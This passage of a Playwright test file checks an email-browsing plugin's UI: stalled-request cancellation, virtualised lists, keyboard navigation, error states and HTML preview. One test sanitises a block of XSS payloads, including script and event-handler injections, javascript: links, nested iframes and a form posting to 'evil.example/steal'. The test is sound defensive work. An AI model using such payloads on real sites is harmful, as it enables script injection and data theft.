      for (const label of ['Food', 'Travel', 'Pets', 'Beauty']) {
        const before = sent.length;
        await ui.getByLabel('Category').selectOption({ label });
        await expect.poll(() => sent.length, { timeout: 45_000 }).toBeGreaterThan(before);
      }
      await faults.setAsync({ rate: 0 });
      await ui.getByLabel('Category').selectOption({ label: 'Home' });
      const home = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=home&per_page=50');
      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 45_000 }).toBe(home.data[0]!.subject_line);
      // The four stalled searches were let go when they were replaced, not left to time out first.
      expect(cancelled.map((url) => new URL(url).searchParams.get('category')).sort()).toEqual(['beauty', 'food', 'pets', 'travel']);
    } finally {
      h.page.off('requestfailed', watchFailed);
      stopWatching();
      await faults.setAsync({ rate: 0 });
    }
  });
});

describe('Browse: a brand filter’s lookup replaced while the library stalls', () => {
  it('lets go of the lookup of the name typed before, instead of holding one of the library’s slots', { timeout: 60_000 }, async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    const lookups = `${h.emulator.libraryUrl}/v1/brands?`;
    const path = (url: string) => url.slice(h.emulator.libraryUrl.length);
    const { urls: sent, stop: stopWatching } = watchRequests((request) => request.url().startsWith(lookups), path);
    const letGo: string[] = [];
    const watchFailed = (request: Request) => {
      if (request.url().startsWith(lookups)) letGo.push(path(request.url()));
    };
    h.page.on('requestfailed', watchFailed);
    try {
      await faults.setAsync({ rate: 1, kinds: ['stall'] });
      await ui.getByLabel('Brand', { exact: true }).fill('acorn');
      await expect.poll(() => sent.some((url) => url.includes('q=acorn')), { timeout: 20_000 }).toBe(true);
      await ui.getByLabel('Brand', { exact: true }).fill('fern');
      // Let go when the next name is typed: well before the 20 s deadline would give up on it anyway.
      await expect.poll(() => letGo.some((url) => url.includes('q=acorn')), { timeout: 8_000 }).toBe(true);
    } finally {
      h.page.off('requestfailed', watchFailed);
      stopWatching();
      await faults.setAsync({ rate: 0 });
    }
  });
});

describe('Browse: sections left while the library stalls', () => {
  it('lets go of what a brand, Brands, Journeys and Me were loading when the designer moves on, instead of holding the library’s slots', { timeout: 120_000 }, async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    const library = `${h.emulator.libraryUrl}/v1/`;
    const path = (url: string) => url.slice(h.emulator.libraryUrl.length);
    const { urls: sent, stop: stopWatching } = watchRequests((request) => request.url().startsWith(library), path);
    const letGo: string[] = [];
    const watchFailed = (request: Request) => {
      if (request.url().startsWith(library)) letGo.push(path(request.url()));
    };
    const sentTo = (prefix: string) => expect.poll(() => sent.some((url) => url.startsWith(prefix)), { timeout: 20_000 }).toBe(true);
    // Let go when the designer moves on: well before the 20 s deadline would give up on it anyway.
    const soon = { timeout: 8_000 };
    const letGoOf = (prefix: string) => expect.poll(() => letGo.filter((url) => url.startsWith(prefix)), soon).not.toEqual([]);
    const stall = () => faults.setAsync({ rate: 1, kinds: ['stall'] });
    h.page.on('requestfailed', watchFailed);
    try {
      // A brand's page and its insights, left with its back button.
      await ui.getByRole('button', { name: 'Brands', exact: true }).click();
      const top = ui.getByRole('list', { name: 'Top brands' }).getByRole('button');
      await top.first().waitFor({ timeout: 10_000 });
      const slug = (await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50')).data[0]!.slug;
      await stall();
      await top.first().click();
      await sentTo(`/v1/brands/${slug}?`);
      await sentTo(`/v1/brands/${slug}/insights`);
      await ui.getByRole('button', { name: '← All brands' }).click();
      await letGoOf(`/v1/brands/${slug}?`);
      await letGoOf(`/v1/brands/${slug}/insights`);
      // A brand search replaced by the next one typed.
      await ui.getByLabel('Search brands').fill('acorn');
      await sentTo('/v1/brands?q=acorn');
      await ui.getByLabel('Search brands').fill('fern');
      await letGoOf('/v1/brands?q=acorn');
      // Me's parts, one after another, then another section.
      await ui.getByRole('button', { name: 'Me', exact: true }).click();
      await sentTo('/v1/me/follows/emails');
      await ui.getByRole('button', { name: 'Likes', exact: true }).click();
      await letGoOf('/v1/me/follows/emails');
      await expect.poll(() => letGo.includes('/v1/me/follows'), soon).toBe(true);
      await sentTo('/v1/me/likes');
      await ui.getByRole('button', { name: 'Collections', exact: true }).click();
      await letGoOf('/v1/me/likes');
      await sentTo('/v1/me/collections');
      // The journeys, left for the emails.
      await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
      await letGoOf('/v1/me/collections');
      await sentTo('/v1/journeys?');
      await ui.getByRole('button', { name: 'Emails', exact: true }).click();
      await letGoOf('/v1/journeys?');
      // A journey opened, then left for the list.
      await faults.setAsync({ rate: 0 });
      await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
      const journeys = ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button');
      await journeys.first().waitFor({ timeout: 10_000 });
      const journey = (await libraryAsync<{ data: Array<{ brand_slug: string }> }>('/v1/journeys?per_page=50')).data[0]!.brand_slug;
      await stall();
      await journeys.first().click();
      await sentTo(`/v1/journeys/${journey}?`);
      await ui.getByRole('button', { name: '← All journeys' }).click();
      await letGoOf(`/v1/journeys/${journey}?`);
    } finally {
      h.page.off('requestfailed', watchFailed);
      stopWatching();
      await faults.setAsync({ rate: 0 });
    }
  });
});

describe('Browse: a thousand results', () => {
  it('keeps only the rows in view in the page, and loads only their thumbnails', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await cards(ui).first().focus();
    // End (the last result) again and again, as a person holding the key, until 1,000 are in.
    while ((await loadedCountAsync(ui)) < 1_000) {
      const before = await loadedCountAsync(ui);
      await expect
        .poll(
          async () => {
            await h.page.keyboard.press('End');
            return loadedCountAsync(ui);
          },
          { timeout: 15_000 },
        )
        .toBeGreaterThan(before);
    }
    const drawn = await emailList(ui).getByRole('listitem').count();
    expect(drawn).toBeGreaterThan(0);
    expect(drawn).toBeLessThanOrEqual(45);
    expect(await emailList(ui).locator('img').count()).toBeLessThan(drawn);
    // The rows drawn are the ones near the end of the thousand.
    expect(Number(await emailList(ui).getByRole('listitem').last().getAttribute('aria-posinset'))).toBeGreaterThan(1_000 - drawn);
  });
});

describe('Browse: thumbnails that cannot be loaded', () => {
  it('says so on the card, in the thumbnail’s place, and the cards keep their size', async () => {
    const thumbnails = (url: URL) => url.pathname.endsWith('/thumbnail.png');
    const stopThumbnailsAsync = await addRouteAsync(h.page, thumbnails, (route) => route.fulfill({ status: 404, body: 'Not found' }));
    try {
      const ui = await openBrowseAsync('light', 'key');
      const first = cards(ui).first();
      await expect.poll(() => textOf(first.locator('.email-thumb')), { timeout: 10_000 }).toBe('Thumbnail did not load');
      const size = (locator: typeof first) => locator.evaluate((element) => [Math.round(element.getBoundingClientRect().width), Math.round(element.getBoundingClientRect().height)]);
      const thumb = first.locator('.email-thumb');
      const [width, height] = await size(thumb);
      expect(height).toBe(Math.round((width! * 4) / 3));
      await checkAxeAsync(ui, 'broken thumbnails, light');
    } finally {
      await stopThumbnailsAsync();
    }
  });
});

describe('Browse: very long names and subjects', () => {
  it('wraps them inside the window: an email’s subject, sender and brand, and the brand in the list of brands', async () => {
    const brandName = 'The Extraordinarily Long-Named Artisanal Homewares & Lifestyle Company of Greater Northumberland';
    const subject = 'https://example.com/averylongunbrokenaddressthatgoesonandonwithoutanyspaceatallforthewholeline and the rest of a long subject line';
    const sender = 'newsletters-offers-and-updates@averyveryverylongdomainnameforthisbrand.example';
    const detail = (url: URL) => /^\/v1\/emails\/\d+$/.test(url.pathname);
    const brands = (url: URL) => url.pathname === '/v1/brands';
    const stopDetailAsync = await addRouteAsync(h.page, detail, async (route) => {
      const response = await route.fetch();
      const body = (await response.json()) as { data: { subject_line: string; from_email: string; brand: { name: string } } };
      Object.assign(body.data, { subject_line: subject, from_email: sender });
      body.data.brand.name = brandName;
      await route.fulfill({ response, json: body });
    });
    const stopBrandsAsync = await addRouteAsync(h.page, brands, async (route) => {
      const response = await route.fetch();
      const body = (await response.json()) as { data: Array<{ name: string }> };
      body.data[0]!.name = brandName;
      await route.fulfill({ response, json: body });
    });
    try {
      const ui = await openBrowseAsync('light', 'key');
      const inWindow = async (locator: ReturnType<Frame['locator']>) =>
        locator.evaluate((element) => element.getBoundingClientRect().right <= window.innerWidth && element.scrollWidth <= element.clientWidth + 1);
      await cards(ui).first().click();
      const title = ui.getByRole('heading', { level: 2 });
      await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subject);
      expect(await inWindow(title), 'the subject').toBe(true);
      expect(await inWindow(ui.getByText(sender, { exact: true })), 'the sender').toBe(true);
      expect(await inWindow(ui.getByRole('button', { name: `${brandName}: the brand’s page` })), 'the brand').toBe(true);
      await ui.getByRole('button', { name: '← Back to results' }).click();
      await ui.getByRole('button', { name: 'Brands', exact: true }).click();
      const row = ui.getByRole('list', { name: 'Top brands' }).getByRole('button').first();
      await expect.poll(() => textOf(row.locator('.brand-row-name')), { timeout: 10_000 }).toBe(brandName);
      expect(await inWindow(row), 'the brand’s row').toBe(true);
    } finally {
      await stopDetailAsync();
      await stopBrandsAsync();
    }
  });
});

describe('Browse: thumbnails lost with the connection', () => {
  it('loads them once the connection is back, instead of saying for good that they did not load', async () => {
    const thumbnails = (url: URL) => url.pathname.endsWith('/thumbnail.png');
    const stopThumbnailsAsync = await addRouteAsync(h.page, thumbnails, (route) => route.abort('internetdisconnected'));
    let ui: Frame;
    try {
      ui = await openBrowseAsync('light', 'key');
      await expect.poll(() => textOf(cards(ui).first().locator('.email-thumb')), { timeout: 10_000 }).toBe('Thumbnail did not load');
    } finally {
      await stopThumbnailsAsync();
    }
    // The browser says it is online again. Offline first, as the window sees it: toggled at once, a
    // loaded machine could pass the window no change at all, so no "online".
    await h.context.setOffline(true);
    await expect.poll(() => ui.evaluate(() => navigator.onLine), { timeout: 10_000 }).toBe(false);
    await h.context.setOffline(false);
    await expect.poll(() => cards(ui).first().locator('.email-thumb img').evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 0, undefined, { timeout: 250 }).catch(() => false), { timeout: 10_000 }).toBe(true);
  });
});

describe('Browse: an email clicked just before the search typed arrives', () => {
  it('stays on the email clicked, not the new results’ email at the same place (it went blank, then swapped)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await expect.poll(() => cards(ui).count(), { timeout: 10_000 }).toBeGreaterThan(2);
    const [firstSubject, secondSubject] = await cardSubjectsAsync(ui);
    const key = state.library.keys.demo;
    const shown = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50', key);
    const second = shown.data.find((each) => each.subject_line === secondSubject)!;
    // The first email's subject: a search whose second result is another email, or none.
    const typed = firstSubject!;
    const found = await libraryAsync<{ data: Summary[] }>(`/v1/emails?q=${encodeURIComponent(typed)}&per_page=50`, key);
    expect(found.data[1]?.id).not.toBe(second.id);
    const answered = h.page.waitForResponse((response) => new URL(response.url()).searchParams.get('q') === typed, { timeout: 10_000 });
    const asked = watchRequests((request) => /\/v1\/emails\/\d+(\?|$)/.test(request.url()), (url) => /\/v1\/emails\/(\d+)/.exec(url)![1]!);
    // Typed, then the second card clicked at once (the search waits for a pause in typing): in one go, so a busy machine cannot split them.
    const field = await ui.getByRole('searchbox', { name: 'Search emails' }).elementHandle();
    const card = await cards(ui).nth(1).elementHandle();
    await ui.evaluate(
      ([input, button, text]) => {
        (input as HTMLInputElement).value = text as string;
        (input as HTMLInputElement).dispatchEvent(new Event('input', { bubbles: true }));
        (button as HTMLButtonElement).click();
      },
      [field, card, typed] as const,
    );
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(secondSubject);
    await answered;
    // The new results are in the (hidden) grid behind the email.
    await expect.poll(() => ui.locator('.email-card-subject').first().textContent(), { timeout: 10_000 }).toBe(found.data[0]!.subject_line);
    // Long enough for an email swapped in to be asked for (a step waits 250 ms).
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    asked.stop();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(secondSubject);
    expect(await ui.getByRole('img', { name: `Screenshot of the email “${secondSubject!}”` }).count()).toBe(1);
    expect(new Set(asked.urls)).toEqual(new Set([String(second.id)]));
  });
});

describe('Browse: an email', () => {
  it('says when the library’s screenshot of an email cannot be shown, instead of a broken image', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const card = cards(ui).first();
    const subject = (await card.locator('.email-card-subject').textContent()) ?? '';
    const list = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50', state.library.keys.demo);
    const email = list.data.find((each) => each.subject_line === subject)!;
    const fault = (value: string | null) =>
      fetch(`${h.emulator.libraryUrl}/_emulator/library/emails/${email.id}/preview-fault`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ fault: value }) });
    await fault('not_image');
    try {
      await card.click();
      await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(subject);
      await expect.poll(() => textOf(ui.getByTestId('screenshot-problem')), { timeout: 10_000 }).toBe('The library’s screenshot of this email could not be shown.');
      expect(await ui.locator('img.email-screenshot').count()).toBe(0);
    } finally {
      await fault(null);
    }
  });

  it('opens an email with its detail from the library, and Escape returns to the same place', async () => {
    const ui = await openBrowseAsync('light', 'key');
    // Down the grid by keys (each row comes fully into view), then a click on that card.
    await cards(ui).first().focus();
    for (let row = 0; row < 3; row++) await h.page.keyboard.press('ArrowDown');
    await expect.poll(() => ui.getByTestId('email-grid').evaluate((element) => element.scrollTop)).toBeGreaterThan(0);
    const scrollTop = await ui.getByTestId('email-grid').evaluate((element) => element.scrollTop);
    const fully = await ui.evaluate(() => (document.activeElement as HTMLElement).dataset['index']!);
    const card = emailList(ui).locator(`[data-index="${fully}"]`);
    const subject = (await card.locator('.email-card-subject').textContent()) ?? '';
    const index = Number(await card.getAttribute('data-index'));
    await card.click();
    const title = ui.getByRole('heading', { level: 2 });
    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subject);
    const list = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50', state.library.keys.demo);
    const summary = list.data[index]!;
    const detail = (await libraryAsync<{ data: { from_email: string; brand: { name: string }; categories: Array<{ name: string }>; mailvault_url: string }; meta: { attribution: { source: string } } }>(`/v1/emails/${summary.id}`, state.library.keys.demo));
    const article = ui.getByRole('article');
    // The record's public page, from the field named after the service (the seed's `service_url`).
    expect(await article.getByRole('link', { name: 'Its page in the library' }).getAttribute('href')).toBe(detail.data.mailvault_url);
    expect(await article.textContent()).toContain(detail.data.from_email);
    expect(await article.textContent()).toContain(detail.data.brand.name);
    for (const category of detail.data.categories) expect(await ui.getByRole('button', { name: `Show ${category.name} emails` }).count()).toBe(1);
    await expect.poll(() => textOf(ui.getByTestId('email-attribution')), { timeout: 10_000 }).toContain(detail.meta.attribution.source);
    expect(await ui.getByRole('img', { name: `Screenshot of the email “${subject}”` }).count()).toBe(1);

    await h.page.keyboard.press('Escape');
    await emailList(ui).waitFor();
    expect(await ui.getByTestId('email-grid').evaluate((element) => element.scrollTop)).toBe(scrollTop);
    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe(String(index));
  });

  it('goes on past the last result loaded with Next, and counts the results as “50+” while more are to come', async () => {
    const { ui, loaded, position } = await firstResultOpenedAsync();
    // To the last email loaded, a press at a time (only the one stopped on is read).
    for (let press = 1; press < loaded; press++) await h.page.keyboard.press('ArrowRight');
    await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded} of \\d+`));
    // Next was disabled here, “50 of 50”, though the search had more.
    const next = ui.getByRole('button', { name: 'Next', exact: true });
    await expect.poll(() => next.isEnabled(), { timeout: 10_000 }).toBe(true);
    await next.click();
    await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded + 1} of \\d+`));
  });

  it('says why Next stops at the last result loaded when the next results could not be loaded, and goes on after Try again', async () => {
    const faults = emulatorFaults(h.emulator);
    const { ui, loaded, position } = await firstResultOpenedAsync();
    for (let press = 1; press < loaded - 3; press++) await h.page.keyboard.press('ArrowRight');
    await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded - 3} of `));
    // The next page fails (and every email read meanwhile): the way on stops here.
    await faults.setAsync({ rate: 1, kinds: ['503'] });
    const notice = ui.getByTestId('library-problem').filter({ hasText: 'The results after this email could not be loaded.' });
    try {
      for (let press = 0; press < 3; press++) await h.page.keyboard.press('ArrowRight');
      await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded} of `));
      // It said “50 of 50+” beside a Next that did nothing, and nothing of why.
      await expect.poll(() => textOf(notice.getByRole('alert')), { timeout: 10_000 }).toBe('The results after this email could not be loaded. The library is unavailable right now. Try again in a little while.');
    } finally {
      await faults.clearAsync();
    }
    await notice.getByRole('button', { name: 'Try again' }).click();
    const next = ui.getByRole('button', { name: 'Next', exact: true });
    await expect.poll(() => next.isEnabled(), { timeout: 10_000 }).toBe(true);
    expect(await notice.count()).toBe(0);
    await next.click();
    await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded + 1} of \\d+`));
  });

  it('counts every arrow press in an email, also presses that come faster than the window draws (a key held down)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await cards(ui).first().click();
    const position = ui.getByRole('navigation', { name: 'Results' });
    await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(/^← Back to results1 of /);
    // Five presses in one task, as a key's auto-repeat can deliver them before the next frame.
    await ui.evaluate(() => {
      for (let press = 0; press < 5; press++) document.dispatchEvent(new KeyboardEvent('keydown', { key: 'ArrowRight', bubbles: true, cancelable: true }));
    });
    await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(/^← Back to results6 of /);
    await ui.evaluate(() => {
      for (let press = 0; press < 3; press++) document.dispatchEvent(new KeyboardEvent('keydown', { key: 'ArrowLeft', bubbles: true, cancelable: true }));
    });
    await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(/^← Back to results3 of /);
  });

  it('counts an arrow press that comes before the window has drawn the email just opened (the card clicked still has the focus)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    // The click and the press in one task: the grid is hidden, but no frame has been drawn yet to
    // take the focus from its card, so the press reaches the card first.
    await ui.evaluate(async () => {
      const card = document.querySelector<HTMLElement>('[data-index="0"]')!;
      card.focus();
      card.click();
      await Promise.resolve();
      (document.activeElement ?? document.body).dispatchEvent(new KeyboardEvent('keydown', { key: 'ArrowRight', bubbles: true, cancelable: true }));
    });
    const position = ui.getByRole('navigation', { name: 'Results' });
    await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(/^← Back to results2 of /);
  });

  it('says an email the library removed meanwhile is gone, without a “Try again” that can only fail again', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const first = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50');
    const gone = first.data[1]!;
    await fetch(`${h.emulator.libraryUrl}/_emulator/library/emails/${gone.id}/remove`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
    try {
      await cards(ui).nth(1).click();
      const problem = ui.getByTestId('library-problem');
      await expect.poll(() => textOf(problem.getByRole('alert')), { timeout: 10_000 }).toBe('This email is no longer in the library.');
      expect(await problem.getByRole('button', { name: 'Try again' }).count()).toBe(0);
      await ui.getByRole('button', { name: '← Back to results' }).waitFor();
      // The card clicked went with the grid: the focus is on the way back, not left on the page.
      await expect.poll(() => ui.evaluate(() => document.activeElement?.textContent)).toBe('← Back to results');
    } finally {
      await fetch(`${h.emulator.libraryUrl}/_emulator/reset`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
    }
  });

  it('keeps the keyboard on the email’s way on when it cannot be read: Try again, and again after a retry that fails too', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    const focused = () => ui.evaluate(() => document.activeElement?.textContent ?? null);
    await faults.setAsync({ rate: 1, kinds: ['503'] });
    try {
      // Opened by keyboard: the card goes with the grid, and the focus was left on the page.
      await cards(ui).nth(1).focus();
      await h.page.keyboard.press('Enter');
      const problem = ui.getByTestId('library-problem');
      await expect.poll(() => textOf(problem.getByRole('alert')), { timeout: 10_000 }).toMatch(/^The library is unavailable right now/);
      await expect.poll(focused).toBe('Try again');
      await h.page.keyboard.press('Enter');
      await expect.poll(() => textOf(problem.getByRole('alert')), { timeout: 10_000 }).toMatch(/^The library is unavailable right now/);
      await expect.poll(focused).toBe('Try again');
    } finally {
      await faults.clearAsync();
    }
    const subjects = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50', state.library.keys.demo);
    await h.page.keyboard.press('Enter');
    await expect.poll(focused, { timeout: 10_000 }).toBe(subjects.data[1]!.subject_line);
  });

  it('works by keyboard alone: / finds, arrows move, Enter opens, arrows go to the next email, Escape goes back', async () => {
    const ui = await openBrowseAsync('light', 'key');
    // Into the plugin's window (a click on its title), then only keys.
    await ui.getByRole('heading', { level: 1 }).click();
    await h.page.keyboard.press('/');
    expect(await ui.evaluate(() => document.activeElement?.id)).toBe('library-query');
    const subjects = await cardSubjectsAsync(ui);
    await h.page.keyboard.press('ArrowDown');
    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('0');
    await h.page.keyboard.press('ArrowRight');
    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('1');
    await h.page.keyboard.press('Enter');
    const title = ui.getByRole('heading', { level: 2 });
    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[1]);
    await h.page.keyboard.press('ArrowRight');
    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[2]);
    await expect.poll(() => textOf(ui.getByRole('navigation', { name: 'Results' })), { timeout: 10_000 }).toContain('3 of');
    await h.page.keyboard.press('Escape');
    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('2');
  });

  it('finds with / from a card’s checkbox too', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await emailList(ui).getByRole('checkbox').first().focus();
    await h.page.keyboard.press('/');
    expect(await ui.evaluate(() => document.activeElement?.id)).toBe('library-query');
    expect(await ui.getByRole('searchbox', { name: 'Search emails' }).inputValue()).toBe('');
  });

  it('finds brands with / under Brands, as it finds emails under Emails (it did nothing there)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    const row = ui.getByRole('list', { name: 'Top brands' }).getByRole('button').first();
    await row.focus();
    await h.page.keyboard.press('/');
    expect(await ui.evaluate(() => document.activeElement?.id)).toBe('library-brand-search');
    expect(await ui.getByLabel('Search brands').inputValue()).toBe('');
  });

  it('asks the library only for the email the designer stops on when stepping quickly with the arrows', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const subjects = await cardSubjectsAsync(ui);
    const { urls: asked, stop: stopWatching } = watchRequests((request) => /\/v1\/emails\/\d+$/.test(request.url()));
    try {
      await cards(ui).first().click();
      const title = ui.getByRole('heading', { level: 2 });
      await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[0]);
      expect(asked).toHaveLength(1);
      for (let step = 0; step < 6; step++) await h.page.keyboard.press('ArrowRight');
      await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[6]);
      await expect.poll(() => textOf(ui.getByRole('navigation', { name: 'Results' })), { timeout: 10_000 }).toContain('7 of');
      // The five passed over on the way were never asked for.
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(asked).toHaveLength(2);
    } finally {
      stopWatching();
    }
  });

  it('shows hostile HTML without running it: no script, no message to the sandbox, the rest of the email still there', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const hostile = [
      '<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<script>parent.postMessage({pluginMessage:{type:"hostile/script"}},"*");top.document.title="owned"</script>',
      '<style>.overlay{position:fixed;inset:0;z-index:99999;background:red}</style></head>',
      '<body onload="parent.postMessage({pluginMessage:{type:\'hostile/onload\'}},\'*\')"><div class="overlay"></div>',
      '<h1>Still a harmless email</h1><img src="x" onerror="parent.postMessage({pluginMessage:{type:\'hostile/onerror\'}},\'*\')">',
      '<a href="javascript:parent.postMessage({pluginMessage:{type:\'hostile/link\'}},\'*\')">Open the offer</a>',
      '<form action="https://evil.example/steal"><input name="q"><button>Send</button></form>',
      '<iframe srcdoc="<script>parent.parent.postMessage({pluginMessage:{type:\'hostile/nested\'}},\'*\')</script>"></iframe>',
      '<object data="javascript:parent.postMessage(1,\'*\')"></object><svg><script>parent.postMessage({pluginMessage:{type:"hostile/svg"}},"*")</script></svg>',
      // Marks that only a script could leave, and more ways out: an escaped srcdoc, embed, a top-level link.
      '<script>document.documentElement.setAttribute("data-ran","script")</script>',
      '<img src="x" onerror="document.documentElement.setAttribute(\'data-ran\',\'onerror\')">',
      '<iframe srcdoc="&lt;script&gt;parent.parent.postMessage({pluginMessage:{type:&quot;hostile/escaped-srcdoc&quot;}},&quot;*&quot;)&lt;/script&gt;"></iframe>',
      '<embed src="data:text/html,<script>parent.postMessage(1,\'*\')</script>">',
      '<a href="https://evil.example/" target="_top" id="away">Leave the plugin</a>',
      '<p>The rest of the email.</p>',
      '</body></html>',
    ].join('');
    const titleBefore = await h.page.title();
    const pageUrl = h.page.url();

    const { target, frameElement, frame } = await openEmailHtmlAsync(ui, hostile);
    expect(await frameElement.getAttribute('sandbox')).toBe('');
    const srcdoc = (await frameElement.getAttribute('srcdoc')) ?? '';
    expect(srcdoc).toMatch(/^<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src http:\/\/127\.0\.0\.1:\d+;/);
    for (const gone of ['<script', 'onload=', 'onerror=', 'javascript:', '<form', '<iframe', '<object', '<embed', '<base', 'refresh', 'srcdoc', 'target=']) expect(srcdoc).not.toContain(gone);
    await expect.poll(() => frame.locator('h1').textContent({ timeout: 1_000 }).catch(() => null)).toBe('Still a harmless email');
    expect(await frame.getByText('The rest of the email.').count()).toBe(1);
    // At phone width the frame is at its own scale: Desktop is zoomed out to fit the window, and Playwright aims its clicks inside a zoomed frame as if it were not.
    await ui.getByRole('button', { name: 'Phone' }).click();
    await frame.getByText('Open the offer').click({ force: true });
    await frame.getByText('Leave the plugin').click({ force: true });
    // The overlay stays inside the preview: the plugin's own controls are still what is under the pointer.
    expect(await ui.getByTestId('nav-settings').evaluate((element) => {
      const box = element.getBoundingClientRect();
      return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)?.closest('[data-testid="nav-settings"]') === element;
    })).toBe(true);
    expect(await frameElement.evaluate((element) => element.getBoundingClientRect().width)).toBe(375);
    await new Promise((resolve) => setTimeout(resolve, 500));

    const messages = await evaluateHooks(h.page, (hooks) => hooks.messages());
    expect(JSON.stringify(messages)).not.toContain('hostile/');
    expect(await h.page.title()).toBe(titleBefore);
    expect(h.page.url()).toBe(pageUrl);
    expect(await frame.locator('html').getAttribute('data-ran')).toBeNull();
    expect(frame.url()).toBe('about:srcdoc');
    // The plugin's own UI is untouched and still answers.
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 })), { timeout: 10_000 }).toBe('Browse');
    await ui.getByRole('button', { name: 'Screenshot' }).click();
    expect(await ui.getByRole('img', { name: `Screenshot of the email “${target.subject_line}”` }).count()).toBe(1);
  });

  it('keeps HTML and its width as chosen when stepping to the next email', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const list = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50', state.library.keys.demo);
    const [first, second] = [list.data[0]!, list.data[1]!];
    await cards(ui).first().click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(first.subject_line);
    await ui.getByRole('button', { name: 'HTML' }).click();
    await ui.getByRole('button', { name: 'Phone' }).click();
    await ui.getByRole('button', { name: 'Next', exact: true }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(second.subject_line);
    await ui.getByTitle(`HTML of “${second.subject_line}”`).waitFor({ timeout: 10_000 });
    expect(await ui.getByRole('button', { name: 'HTML' }).getAttribute('aria-pressed')).toBe('true');
    expect(await ui.getByRole('button', { name: 'Phone' }).getAttribute('aria-pressed')).toBe('true');
  });

  it('lays the HTML out at desktop width in the default window, whole, and at phone width for Mobile (both were the window’s 374 px: the phone layout under Desktop, and a wide email cut at the right)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    // An email with a phone layout, as most have: its media query picks one by the width it is laid out at.
    const html =
      '<html><head><style>.phone{display:none} @media (max-width: 480px) {.desktop{display:none} .phone{display:block}}</style></head><body style="margin:0"><p class="desktop">Two columns on a desktop</p><p class="phone">One column on a phone</p><div style="width:600px;text-align:right">Right edge</div></body></html>';
    const { frameElement, frame } = await openEmailHtmlAsync(ui, html);
    expect(await ui.getByRole('button', { name: 'Desktop' }).getAttribute('aria-pressed')).toBe('true');
    await expect.poll(() => frame.getByText('Two columns on a desktop').isVisible()).toBe(true);
    expect(await frame.getByText('One column on a phone').isVisible()).toBe(false);
    // The whole email is in the window: the frame ends inside the detail, its right edge with it.
    const detail = await ui.getByRole('article').boundingBox();
    const shown = await frameElement.boundingBox();
    expect(shown!.x + shown!.width).toBeLessThanOrEqual(detail!.x + detail!.width);
    expect(await frame.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
    await ui.getByRole('button', { name: 'Phone' }).click();
    await expect.poll(() => frame.getByText('One column on a phone').isVisible()).toBe(true);
